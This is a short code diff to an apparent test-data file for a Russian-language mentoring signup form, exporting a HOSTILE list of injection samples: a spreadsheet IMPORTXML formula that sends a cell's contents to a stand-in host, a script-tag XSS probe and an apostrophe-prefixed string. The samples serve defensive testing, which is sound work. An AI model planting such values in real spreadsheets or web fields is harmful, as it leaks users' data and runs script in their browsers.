@@ -23,7 +23,8 @@ const TIMES = ['будни утром', 'будни днём', 'будни ве�
 const REQUESTS = ['программирование', 'математика', 'английский язык', 'другое: вышивка', 'профориентация', 'общение'];
 const INTERESTS = ['шахматы', 'походы', 'футбол', 'кино', 'чтение', 'танцы'];
 const FORMS = ['ученик – ученик', 'студент – ученик', 'работодатель – студент', 'учитель – учитель'];
-const HOSTILE = [
+/** Texts that try to become something else. */
+export const HOSTILE = [
   '=IMPORTXML("http://example.test/?"&A1;"//a")',
   '<script>alert(1)</script>',
   "'уже с апострофом",
